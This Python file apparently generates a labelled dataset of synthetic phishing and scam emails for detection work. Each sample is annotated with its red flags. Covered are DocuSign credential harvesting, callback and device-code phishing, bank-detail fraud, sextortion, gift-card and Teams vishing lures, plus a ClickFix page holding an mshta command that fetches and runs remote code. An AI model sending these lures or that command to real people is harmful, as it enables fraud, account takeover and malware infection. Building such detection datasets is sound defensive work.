"""English attack messages (8)."""
import assets
import data as D
import infra
from builder import register, html_outlook, html_gmail, to_plain, to_html, brand_page, esc, html_simple


# ---------------------------------------------------------------------------
@register("attack", "en", "docusign-lookalike-supply-agreement")
def _(b):
    sender = "dse@eumail-docusign.net"
    b.at(2026, 11, 12, 14, 26, 40, zone="UK").env(sender, "oliver.hughes@example.com")
    b.style = "esp"
    b.via(infra.ses(b, "eu-west-1"))
    b.frm("Emma Clarke via Docusign", sender)
    b.reply_to("Emma Clarke", "emma.clarke@harringtonfoods.co.uk")
    b.to(("Oliver Hughes", "oliver.hughes@example.com"))
    b.subject("Please DocuSign: Harrington_Foods_Supply_Agreement_2027_rev3.pdf")
    url = "https://pub-7f3a91c2d84e4b6f9e0a.r2.dev/harrington/agreement.html#b2xpdmVyLmh1Z2hlc0BleGFtcGxlLmNvbQ=="
    src = """Emma Clarke sent you a document to review and sign.

[[REVIEW DOCUMENT|%s]]

Emma Clarke
emma.clarke@harringtonfoods.co.uk

Hi Oliver, please find the revised supply agreement for 2027 with the updated Easter volumes and listing fees. Could you sign today so we can release the purchase orders? Thanks, Emma

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code: 7A21F0C44E8D4B9BA1C65E03F28D91B7
""" % url
    head = '<div style="background:#1e1e1e;padding:20px 32px"><span style="color:#fff;font-size:22px;font-weight:bold">docusign</span></div>'
    html = brand_page(to_html(src, btn_style="display:inline-block;padding:12px 28px;background:#ffc820;color:#1e1e1e;text-decoration:none;font-weight:bold;border-radius:2px"),
                      head, "Powered by Docusign &middot; About Docusign &middot; Questions about the Document?", title="Docusign")
    b.body(b.alt(b.text(to_plain(src), "utf-8", "quoted-printable"), b.html(html, "utf-8", "quoted-printable")))
    b.meta("Fake DocuSign envelope 'Harrington Foods supply agreement 2027' with a REVIEW DOCUMENT button.",
           "Sender domain eumail-docusign.net (DocuSign's EU service uses eumail.docusign.net) sent via Amazon SES; the button opens a Cloudflare r2.dev bucket page with the victim's address base64-encoded in the fragment (credential harvest), not eu.docusign.net; urgency to 'sign today'. Hard negative: business 09 (genuine DocuSign envelope from the same customer).")


# ---------------------------------------------------------------------------
@register("attack", "en", "callback-norton-renewal-invoice")
def _(b):
    sender = "rachel.whitmore.billing@gmail.com"
    b.at(2026, 10, 14, 6, 12, 33, zone="UK").env(sender, "sarah.collins@example.com")
    b.style = "gmail"
    b.via(infra.gmail(b, zone="UK"))
    b.frm("Norton Billing Team", sender)
    b.to(("", "sarah.collins@example.com"))
    b.subject("Your Order Confirmation #NL-44718290 - Auto Renewal Successful")
    txt = """Dear Customer,

Thank you for renewing your Norton 360 Deluxe subscription (5 devices, 1 year). Your payment of £389.99 has been processed successfully and will appear on your statement within 24 hours.

Please find your invoice attached for your records.

If you did not authorise this renewal or wish to cancel and request a full refund, please contact our billing desk within 24 hours on +44 20 3936 1427 (Mon-Sat, 8am-8pm).

Kind regards,
Billing Department
"""
    pdfb = assets.invoice_pdf([
        ("INVOICE", 18, True), "", "Norton 360 Deluxe - Annual Subscription", "Invoice No: NL-44718290",
        "Invoice Date: 14 October 2026", "Customer ID: NL-CX-8831027", "Payment method: Auto-debit (Visa ending 4417)", "",
        "Description                                   Qty      Amount",
        "Norton 360 Deluxe (5 devices) 1 year           1       £339.99",
        "Premium Support Plan                            1        £50.00",
        ("Total charged                                          £389.99", 11, True), "",
        ("Did not authorise this transaction?", 12, True),
        "Call our Cancellation & Refund Department within 24 hours:",
        ("+44 20 3936 1427", 16, True),
        "Refunds are only possible if cancelled within 24 hours of the renewal date.", "",
        ("This is a computer-generated invoice and does not require a signature.", 8, False),
    ], title="Invoice NL-44718290", creator="Microsoft\u00ae Word 2016", producer="Microsoft\u00ae Word 2016",
        created="20261013232210+01'00'")
    b.body(b.mixed(
        b.alt(b.text(txt, "utf-8", "quoted-printable"), b.html(html_gmail(txt), "utf-8", "quoted-printable")),
        b.attach("application/pdf", pdfb, "Invoice_NL-44718290.pdf", fname_style="rfc2047b")))
    b.meta("Callback phishing (TOAD): fake Norton 360 renewal invoice of £389.99 with a 'cancellation & refund' phone number in mail and PDF.",
           "Free Gmail sender with a brand display name, generic 'Dear Customer', a product the company never bought, and the only call to action is a UK phone number; the call leads to a fake refund desk that installs remote-access tools. No link, so URL scanning finds nothing.")


# ---------------------------------------------------------------------------
@register("attack", "en", "device-code-teams-range-review")
def _(b):
    sender = "emma.clarke@harringtonfood.co.uk"
    b.at(2026, 11, 3, 10, 5, 9, zone="UK").env(sender, "oliver.hughes@example.com")
    b.style = "generic"
    b.via(infra.zoho(b, zone="UK"))
    b.frm("Emma Clarke", sender)
    b.to(("Oliver Hughes", "oliver.hughes@example.com"))
    b.subject("Harrington Foods - 2027 range review: Teams access")
    txt = """Hi Oliver,

Ahead of Thursday's range review we've moved the seasonal planning pack (Easter 2027 and Mother's Day) into our secure Teams space, as it contains next year's promotional pricing.

Because you're joining from an external organisation, Microsoft asks for a one-time device authorisation:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: HQ7K4RLWZ
3. Sign in with your Example Group work account and approve.

The code is only valid for 15 minutes, so please do it when you have a moment and drop me a line once you're in. I'll send the calendar invite separately.

Many thanks,
Emma

Emma Clarke
Category Buyer - Confectionery & Snacking
Harrington Foods Ltd
"""
    html = ('<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>'
            + to_html(txt.replace("https://microsoft.com/devicelogin", "{{https://microsoft.com/devicelogin|https://microsoft.com/devicelogin}}"),
                      p_style="margin:0 0 10px 0") + "</div></div>\n")
    b.body(b.alt(b.text(txt, "us-ascii", "7bit"), b.html("<!DOCTYPE html><html><head><meta content=\"text/html;charset=UTF-8\" http-equiv=\"Content-Type\"></head><body>" + html + "</body></html>\n", "utf-8", "quoted-printable")))
    b.meta("Device-code phishing: a 'customer' asks the UK sales manager to enter a code at the genuine microsoft.com/devicelogin page to 'join a secure Teams space'.",
           "Look-alike domain harringtonfood.co.uk (real customer: harringtonfoods.co.uk, on Microsoft 365) sent from Zoho Mail; the code HQ7K4RLWZ belongs to a device-code flow started by the attacker, so signing in hands the attacker OAuth tokens for Oliver's mailbox; 15-minute validity drives urgency. The only link is a genuine Microsoft URL, which defeats reputation checks. Hard negative: business 10 (genuine Microsoft account security code).")


# ---------------------------------------------------------------------------
@register("attack", "en", "clickfix-purchase-order-html")
def _(b):
    sender = "orders@bromsgrovebakehouse.co.uk"
    b.at(2026, 12, 8, 11, 41, 55, zone="UK").env(sender, "oliver.hughes@example.com")
    b.style = "roundcube"
    b.via(infra.cpanel_exim(b, "uk-shared17.hostpresto.net", "31.24.227.43", client_ip="89.187.162.105",
                            client_helo="[127.0.0.1]", zone="UK"))
    b.frm("Helen Marsh | Bromsgrove Bakehouse", sender, "iso-8859-1")
    b.to(("", "oliver.hughes@example.com"))
    b.subject("New order enquiry - PO BB-2026-1187 (Christmas range)")
    b.set("User-Agent", "Roundcube Webmail/1.6.6")
    txt = """Hello Oliver,

We'd like to place a trial order from your Christmas range for our three shops in Worcestershire (praline selection boxes, milk chocolate Santas and the 200 g gift tins).

Please find our purchase order attached. It opens in your browser - you may need to complete a quick security check because of the pricing information.

Could you confirm availability and delivery before 18 December?

Kind regards,
Helen Marsh
Purchasing
Bromsgrove Bakehouse Ltd
"""
    cmd = 'mshta https://bb-docs-verify.com/cf/7731  # I am not a robot - Cloudflare Verification ID: 7731-0452'
    page = ("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Just a moment...</title>\n</head>\n"
            "<body style=\"font-family:-apple-system,Segoe UI,Arial,sans-serif;background:#fff;color:#313131\">\n"
            "<div style=\"max-width:640px;margin:80px auto\">\n"
            "<h1 style=\"font-size:28px;font-weight:500\">bromsgrovebakehouse-docs.com</h1>\n"
            "<h2 style=\"font-size:20px;font-weight:400\">Verify you are human by completing the action below.</h2>\n"
            "<div style=\"border:1px solid #d9d9d9;padding:18px;margin:24px 0;background:#fafafa\">\n"
            "<p style=\"font-weight:600\">Verification steps</p>\n<ol>\n"
            "<li>Press <b>Windows Key</b> + <b>R</b></li>\n<li>Press <b>CTRL</b> + <b>V</b> (the verification code below is already in your clipboard)</li>\n"
            "<li>Press <b>Enter</b> to confirm you are not a robot</li>\n</ol>\n"
            "<p style=\"font-size:12px;color:#666\">Verification code:</p>\n"
            "<pre style=\"background:#eee;padding:8px;white-space:pre-wrap\">%s</pre>\n"
            "</div>\n<p>Purchase order PO BB-2026-1187 will open after verification.</p>\n"
            "<p style=\"font-size:12px;color:#888\">Performance &amp; security by Cloudflare</p>\n</div>\n</body>\n</html>\n") % esc(cmd)
    b.body(b.mixed(b.text(txt, "iso-8859-1", "quoted-printable", flowed=True),
                   b.attach("text/html", page.encode("utf-8"), "PO_BB-2026-1187.html")))
    b.meta("ClickFix: 'purchase order' HTML attachment showing a fake Cloudflare human check that tells the user to press Win+R, paste and Enter.",
           "Unknown bakery mailbox on a shared cPanel host, logged in from a foreign VPN address; the PO is an HTML file, not a PDF; the page instructs running an mshta command from bb-docs-verify.com (ClickFix / fake CAPTCHA). The attachment itself is inert (no script; the command is shown as text only).")


# ---------------------------------------------------------------------------
@register("attack", "en", "midland-freight-bank-change-lookalike")
def _(b):
    sender = "gary.turner@midland-freight.co.uk"
    b.at(2026, 10, 22, 9, 3, 14, zone="UK").env(sender, "sarah.collins@example.com")
    b.style = "thunderbird"
    b.via(infra.vps_client(b, "mail.midland-freight.co.uk", "173.212.236.91", "vmi2231847.contaboserver.net",
                           "102.129.152.61", zone="UK"))
    b.frm("Gary Turner", sender)
    b.to(("Sarah Collins", "sarah.collins@example.com"))
    b.subject("Updated remittance details - Midland Freight Ltd")
    b.set("User-Agent", "Mozilla Thunderbird").set("Content-Language", "en-GB")
    ib = D.F(D.ATT_MIDLAND)
    txt = """Dear Sarah,

Please note that following our annual audit Midland Freight Ltd has moved its operating account from Barclays to Starling Bank. With immediate effect all payments should be remitted to:

Account name: Midland Freight Ltd
Bank: Starling Bank
Sort code: 60-83-71
Account number: 25173094
IBAN: %s

Our Barclays account will only remain open until the end of the month for direct debits, so any payments sent there after 31 October will be returned and may delay settlement of the outstanding invoices (MF-118842 and MF-118907, total GBP 14,286.40).

Could you confirm by reply once your supplier records have been updated, and let me know the expected payment date for the two invoices above?

Thanks in advance,

Gary Turner
Credit Control
Midland Freight Ltd
Unit 7, Prologis Park, Coventry CV6 4QX
""" % ib
    b.body(b.text(txt, "us-ascii", "7bit", flowed=True))
    b.meta("Carrier bank-detail change: 'Gary Turner' of Midland Freight moves payments from Barclays to a Starling account and chases two invoices.",
           "Look-alike domain midland-freight.co.uk (real carrier: midlandfreight.co.uk on Microsoft 365) sent from a Contabo VPS by a client on an African IP; 'annual audit' pretext, confirm-by-reply only, pressure on outstanding invoices; genuine invoices (business 12) state 'payment details remain unchanged' (Barclays).")


# ---------------------------------------------------------------------------
@register("attack", "en", "extortion-bitcoin-spoofed-self")
def _(b):
    rcpt = "james.whitfield@example.com"
    b.at(2026, 11, 21, 3, 14, 52, zone="UK").env(rcpt, rcpt)
    b.style = "generic"
    b.via(infra.direct(b, "gw.tecnored-sp.com.br", "unknown", "187.45.102.19", tls=None, zone="UTC", bstyle="python",
                       msgid="<%s@example.com>" % infra.hexs(b.rng, 20).upper()))
    b.date_zone = "UTC"
    b.frm("", rcpt)
    b.to(("", rcpt))
    b.subject("Security notice: %s has been compromised" % rcpt)
    btc = D.BTC_EXTORTION
    txt = """Hello,

I am a hacker who has gained access to your operating system and to this email account. You may have noticed that this message was sent from your own address.

Several months ago I infected your device with malware through a website you visited. Since then I have had full access to your computer, your camera and all of your accounts. I have copies of your contacts, your emails and your browsing history, and I recorded what you were doing in front of the camera while you visited certain websites.

If you want me to delete everything, transfer USD 1450 in Bitcoin to my wallet:

%s

If you do not know how to buy Bitcoin, search for "how to buy bitcoin" on Google. It is easy.

You have 48 hours from the moment you open this email. I will know when you read it. If I do not receive the payment, the recordings will be sent to all of your contacts, colleagues and business partners.

Do not reply to this message and do not contact the police. Changing your password will not help, I still have access to your device.
""" % btc
    b.body(b.text(txt, "us-ascii", "7bit"))
    b.meta("Extortion ('sextortion') with a Bitcoin address, From and To both set to the victim's own address.",
           "Spoofed own address (fails SPF/DMARC for example.com), delivered directly by a Brazilian host without PTR, no prior relationship, threatens exposure and demands USD 1450 to a bech32 address (valid checksum) within 48 h. Bulk extortion template, no actual compromise.")


# ---------------------------------------------------------------------------
@register("attack", "en", "gift-cards-office-manager")
def _(b):
    sender = "james.whitfield.office@gmail.com"
    b.at(2026, 12, 10, 10, 22, 6, zone="UK").env(sender, "oliver.hughes@example.com")
    b.style = "gmail"
    b.via(infra.gmail(b, zone="UK"))
    b.frm("James Whitfield", sender)
    b.to(("", "oliver.hughes@example.com"))
    b.subject("Quick favour")
    txt = """Hi Oliver,

Are you at your desk? I need a quick favour. I'm tied up in back-to-back meetings with the Harrington buying team all afternoon and can't take calls.

I want to surprise a few of our key customer contacts with Christmas gifts today. Could you pick up 6 Amazon gift cards at 100 GBP each from the Tesco Express round the corner? I'll sort the reimbursement with Sarah on Monday.

Once you have them, scratch the back and email me clear photos of the codes so I can add personal notes before the end of the day.

Please keep this to yourself for now, I want it to be a surprise.

Thanks,
James

Sent from my iPhone
"""
    b.body(b.alt(b.text(txt, "utf-8", None), b.html(html_gmail(txt), "utf-8", None)))
    b.meta("Gift-card scam: 'James Whitfield' (UK office manager) asks a colleague to buy six 100 GBP Amazon gift cards and e-mail photos of the codes.",
           "Gmail address instead of the company mailbox, cannot be called, secrecy ('surprise'), gift-card codes by e-mail, reimbursement 'later'. Hard negative: business 15 (James's genuine Christmas voucher request via the internal relay with a PO and invoice).")


# ---------------------------------------------------------------------------
@register("attack", "en", "teams-helpdesk-vishing-pretext")
def _(b):
    sender = "servicedesk@example-servicedesk.com"
    b.at(2026, 10, 29, 8, 55, 30, zone="UK").env(sender, "sarah.collins@example.com")
    b.style = "esp"
    b.via(infra.mailgun(b, "mg.example-servicedesk.com"))
    b.frm("Example Group IT Service Desk", sender)
    b.to(("Sarah Collins", "sarah.collins@example.com"))
    b.subject("Action required: spam flood on your mailbox - Service Desk will call you on Teams")
    txt = """Hello Sarah,

Our monitoring has detected a large volume of unsolicited newsletter sign-ups being sent to your mailbox (more than 3,000 messages since 06:40 this morning). This is a known attack pattern and our security team is already filtering the messages centrally.

To complete the clean-up on your device, a Service Desk engineer will contact you shortly via Microsoft Teams. The call will appear as "IT Service Desk (Example Group)" and may carry an "External" label because our support is provided by our managed service partner.

During the call the engineer will ask you to open Quick Assist (Ctrl + Windows + Q) and read out the security code so that the filtering rule can be applied to your device. This takes about 10 minutes.

Please do not forward this message or delete the spam yourself, as this can interfere with the investigation.

Ticket: INC0048213
Example Group IT Service Desk
Managed by NorthBridge IT Services
"""
    html = brand_page(to_html(txt), '<div style="background:#003366;color:#fff;padding:14px 32px;font-size:16px">IT Service Desk</div>',
                      "Example Group IT Service Desk &middot; INC0048213", title="IT Service Desk")
    b.body(b.alt(b.text(txt, "utf-8", "quoted-printable"), b.html(html, "utf-8", "quoted-printable")))
    b.meta("Vishing pretext: fake 'IT Service Desk' warns of a spam flood and announces an external Teams call during which Quick Assist is to be started.",
           "External look-alike domain example-servicedesk.com via Mailgun; prepares the email-bombing + Teams 'help desk' + Quick Assist remote-control chain used by ransomware affiliates; tells the user not to forward the mail. Company IT (business 06) states it never starts remote sessions without a user-opened ticket.")
